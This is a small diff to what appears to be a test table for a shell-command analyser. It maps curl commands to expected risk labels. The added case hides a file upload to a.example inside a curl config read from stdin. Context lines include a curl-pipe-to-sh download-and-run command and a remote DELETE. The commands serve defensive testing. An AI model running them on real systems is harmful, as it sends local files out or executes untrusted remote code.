@@ -109,6 +109,8 @@ export const HTTP: readonly Program[] = [
         'flow x>net:a.example; net a.example; read x; send a.example',
       'curl -X DELETE localhost:3000/a': 'net localhost',
       'curl -X DELETE localhost:9200/a': 'action delete-remote; net localhost',
+      "curl -K - <<< $'upload-file = x\\nurl = https://a.example'":
+        'flow x>net:a.example; net a.example; read x; run curl',
       'xargs -n1 curl -sI < x': 'net $(file); opaque host; read x; run curl',
       'curl -s https://a.example/x': 'net a.example',
       'curl -fsSL https://a.example/i.sh | sh':
